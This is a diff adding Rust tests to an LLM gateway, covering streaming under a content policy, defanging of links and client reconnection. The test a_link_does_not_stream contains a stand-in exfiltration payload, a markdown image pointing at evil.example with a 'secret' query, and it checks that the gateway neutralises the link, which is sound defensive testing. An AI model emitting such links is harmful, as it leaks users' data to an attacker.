@@ -343,3 +343,85 @@ fn errors_of_the_upstream_are_told() {
         assert!(text.contains("cannot be reached") && !text.contains("key-of"), "{path}: {text}");
     }
 }
+
+/// What can be shown as it comes is: the client has the first words while the model still writes. If a rule could stop the
+/// message, nothing goes out before it is judged.
+#[test]
+fn text_streams_as_far_as_it_may() {
+    let text =
+        "Once upon a time there was an otter, and nobody had seen it for forty years. PAUSE It came back.";
+    for (policy, early) in [(gateway::POLICY.split("raise ").next().unwrap(), true), (gateway::POLICY, false)]
+    {
+        for (api, _) in FORMS {
+            let upstream = Upstream::new(move |_| says(text));
+            let gateway = Gateway::configured(
+                &gateway::config(&upstream.url, "chat-completions", "interactive = true"),
+                policy,
+            );
+            let mut agent = Agent::new(&gateway, api, true, KEY);
+            agent.chat.push(Message::User(vec![Part::Text("Tell me.".to_owned())]));
+            let (go_on, mut heard) = (upstream.go_on.clone(), String::new());
+            let said = agent.listen(&mut |piece| {
+                heard.push_str(piece);
+                let _ = go_on.send(());
+            });
+            assert_eq!((said.text.as_str(), heard.as_str()), (text, text), "{api:?}");
+            assert_eq!(
+                upstream.was_released.load(std::sync::atomic::Ordering::SeqCst),
+                early,
+                "{api:?} {early}"
+            );
+        }
+    }
+}
+
+/// Nothing that could lead somewhere goes out before all of it is known, and what went out stays.
+#[test]
+fn a_link_does_not_stream() {
+    let text = "The otters are back in the river, see ![them](https://evil.example/?q=secret) and PAUSE more of them.";
+    let policy = gateway::POLICY.split("raise ").next().unwrap();
+    for (api, _) in FORMS {
+        let upstream = Upstream::new(move |request| match text_of(request).contains("PAY MALLORY") {
+            true => says(text),
+            false => calls(&[("read", "{}")]),
+        });
+        let config =
+            gateway::config(&upstream.url, "chat-completions", "interactive = true\nmethod = \"everything\"");
+        let gateway = Gateway::configured(&config, policy);
+        let mut agent = Agent::new(&gateway, api, true, KEY);
+        let said = agent.says("Read it to me.");
+        assert!(
+            said.starts_with("The otters are back in the river, see ! [them] (hxxps://")
+                || said.contains("hxxps://evil"),
+            "{said}"
+        );
+        assert!(!said.contains("https://"), "{api:?}: {said}");
+    }
+}
+
+/// A client that goes away ends its turn, and the conversation goes on when it comes back.
+#[test]
+fn a_client_may_go_away_and_come_back() {
+    let upstream = Upstream::new(|request| match text_of(request).contains("Never mind") {
+        true => says("As you like."),
+        false => says("A long story begins here, and goes on for a while. PAUSE And on."),
+    });
+    let policy = gateway::POLICY.split("raise ").next().unwrap();
+    let gateway = Gateway::configured(
+        &gateway::config(&upstream.url, "chat-completions", "interactive = true"),
+        policy,
+    );
+    let body = json!({"model": "double", "stream": true, "messages": [{"role": "user", "content": "Tell me a story."}]}).to_string();
+    let mut socket = std::net::TcpStream::connect(gateway.address).unwrap();
+    let head = format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {KEY}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
+        body.len()
+    );
+    std::io::Write::write_all(&mut socket, format!("{head}{body}").as_bytes()).unwrap();
+    let mut seen = [0_u8; 64];
+    std::io::Read::read_exact(&mut socket, &mut seen).unwrap();
+    assert!(seen.starts_with(b"HTTP/1.1 200"));
+    drop(socket);
+    let mut agent = Agent::new(&gateway, Api::ChatCompletions, true, KEY);
+    assert_eq!(agent.says("Never mind."), "As you like.");
+}
